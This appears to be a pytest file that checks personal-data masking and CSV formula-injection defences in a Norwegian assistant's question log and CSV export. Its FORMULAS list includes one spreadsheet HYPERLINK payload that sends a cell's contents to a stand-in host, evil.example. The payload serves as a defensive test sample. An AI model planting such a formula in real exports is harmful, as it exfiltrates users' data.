"""Personal data masking (issue 11, finding 2) and CSV formula injection (finding 3).

Every string the adversarial probe got through the old masking is here, in the question log,
in feedback comments and in the CSV export, and so are ordinary numbers that must survive.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from assistant.config import Settings
from assistant.csvsafe import safe_cell
from assistant.logs import JsonFormatter, mask
from assistant.pii import account_valid, iban_valid, national_id_valid
from assistant.questionlog import QuestionLog
from tests.test_questionlog import _cli, ask

# A valid fødselsnummer (both mod-11 check digits hold) in each way people write one.
FNR = "01019010046"
LEAKED = {
    "010190 123 45": "[fødselsnummer]",  # the probe's own strings: ID layout and a real date
    "01 01 90 123 45": "[fødselsnummer]",
    "010190-12345": "[fødselsnummer]",
    "010190 10046": "[fødselsnummer]",
    "0101 9010 046": "[fødselsnummer]",  # an odd grouping: caught by the check digits
    "41019012345": "[fødselsnummer]",  # a D-number (day + 40) in the ID layout
    "906.72.754": "[telefon]",
    "906-72-754": "[telefon]",
    "90 67 27 54": "[telefon]",
    "+47 906 72 754": "[telefon]",
    "0047 90672754": "[telefon]",
    "1234 56 78903": "[kontonummer]",
    "1234.56.78903": "[kontonummer]",
    "ola(at)example.no": "[e-post]",
    "ola [at] example [dot] no": "[e-post]",
    "ola.nordmann @ example.com": "[e-post]",
    "NO93 8601 1117 947": "[iban]",
    "NO9386011117947": "[iban]",
    "GB82 WEST 1234 5698 7654 32": "[iban]",
}
KEPT = [
    "Kommunen skal skaffe 425 boliger i 2019–2026.",
    "Dialogkonferansen var 19. februar 2020 kl. 12.00–16.00 på Lørenskog Hus, Festplassen 1.",
    "Hva skal bygges i Løkenåsveien 45?",
    "i perioden 2019 2026",
    "Prisen var 1 200 000 kroner for 30 omsorgsboliger.",
    "We meet at noon. Then we talk.",
    "Saksnummer 2020 123 45",  # 11 digits, no date at the start, no valid check digit
    "1234 56 78900",  # an account-shaped number whose check digit is wrong
]


def test_the_checksums():
    assert national_id_valid(FNR) and not national_id_valid("01019012345")
    assert not national_id_valid("32019010046")  # day 32 is no date
    assert account_valid("12345678903") and not account_valid("12345678900")
    assert iban_valid("NO9386011117947") and not iban_valid("NO9386011117948")


@pytest.mark.parametrize("raw, label", LEAKED.items())
def test_every_probe_format_is_masked(raw, label):
    masked = mask(f"Hei, her er {raw}, takk.")
    assert masked == f"Hei, her er {label}, takk."


@pytest.mark.parametrize("text", KEPT)
def test_ordinary_numbers_and_public_addresses_survive(text):
    assert mask(text) == text


def test_names_after_a_cue_and_street_addresses_are_masked():
    masked = mask("Jeg heter Ola Nordmann og bor i Storgata 5, 0155 Oslo. Mvh Kari Hansen")
    assert masked == "Jeg heter [navn] og bor i [adresse]. Mvh [navn]"
    assert mask("My name is John Smith, I live at Baker Street 221 B") == "My name is [navn], I live at [adresse]"


def test_masking_stays_linear_on_hostile_text():
    import time

    for hostile in ("1 " * 20000, "a." * 20000, "x@y" + ".z" * 20000, "NO93 " * 8000, "Jeg heter " * 5000):
        started = time.process_time()
        mask(hostile)
        assert time.process_time() - started < 2, hostile[:20]


PROBE = "Hjelp! " + ", ".join(LEAKED) + ". Jeg heter Ola Nordmann, Storgata 5."


def test_the_question_log_feedback_and_export_hold_none_of_it(tmp_path):
    qlog = QuestionLog(f"sqlite:///{tmp_path / 'log.db'}")
    answer_id = ask(qlog, PROBE)
    qlog.add_feedback(answer_id, "down", PROBE)
    out = io.StringIO()
    qlog.export_csv(out)
    for text in (json.dumps(qlog.recent(), ensure_ascii=False), out.getvalue()):
        for raw in LEAKED:
            assert raw not in text, raw
        assert "Ola Nordmann" not in text and "Storgata 5" not in text


def test_log_lines_are_masked_with_the_same_rules():
    import logging

    record = logging.LogRecord("x", logging.INFO, __file__, 1, "fra ola(at)example.no", (), None)
    record.question = "kontonummer 1234 56 78903 og IBAN NO93 8601 1117 947"
    line = json.loads(JsonFormatter().format(record))
    assert line["msg"] == "fra [e-post]"
    assert line["question"] == "kontonummer [kontonummer] og IBAN [iban]"


# --- CSV formula injection -----------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klikk her")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_safe_cell_neutralises_formulas(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell, expected", [("Hva er fristen?", "Hva er fristen?"), (12.5, "12.5"), (None, ""),
                                            ("e-post: [e-post]", "e-post: [e-post]"), (True, "True")])
def test_safe_cell_leaves_ordinary_cells(cell, expected):
    assert safe_cell(cell) == expected


def test_cli_export_writes_formulas_as_text(tmp_path):
    data = tmp_path / "data"
    qlog = QuestionLog(Settings(data_dir=data).db_url)
    for question in FORMULAS[:4]:
        ask(qlog, question, answered=False)
    out = tmp_path / "q.csv"
    done = _cli(["questions", "export", "--out", str(out)], data, tmp_path)
    assert done.returncode == 0, done.stderr
    cells = [row["question"] for row in csv.DictReader(io.StringIO(out.read_text("utf-8")))]
    assert sorted(cells) == sorted("'" + q for q in FORMULAS[:4])
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
